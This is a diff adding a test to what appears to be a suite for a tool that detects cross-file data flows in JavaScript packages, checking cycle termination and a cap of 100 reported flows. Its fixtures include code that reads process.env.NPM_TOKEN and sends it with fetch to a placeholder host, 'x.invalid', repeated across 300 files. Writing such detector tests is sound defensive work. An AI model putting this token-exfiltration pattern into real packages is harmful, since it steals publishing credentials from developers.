@@ -154,6 +154,26 @@ describe('cross-file flows', () => {
   });
 });
 
+describe('cross-file bounds', () => {
+  it('ends on re-export cycles and caps walks and flows on a package of many importers', () => {
+    expect(
+      crossFlows({
+        'a.js': "module.exports = require('./b');",
+        'b.js': "module.exports = require('./a');",
+        'c.js': "const a = require('./a');\nfetch('https://x.invalid', { body: a.token });",
+      }),
+    ).toEqual([]);
+    const files: Record<string, string> = { 'secret.js': 'module.exports = process.env.NPM_TOKEN;' };
+    for (let i = 0; i < 300; i++)
+      files[`send${i}.js`] = "const t = require('./secret');\nfetch('https://x.invalid', { body: t });";
+    const started = Date.now();
+    const flows = crossFlows(files);
+    expect(flows).toHaveLength(100);
+    expect(new Set(flows.map((f) => f.to.at.file)).size).toBe(100);
+    expect(Date.now() - started).toBeLessThan(20_000);
+  });
+});
+
 describe('resolveRelative', () => {
   const files = new Set([
     'index.js',
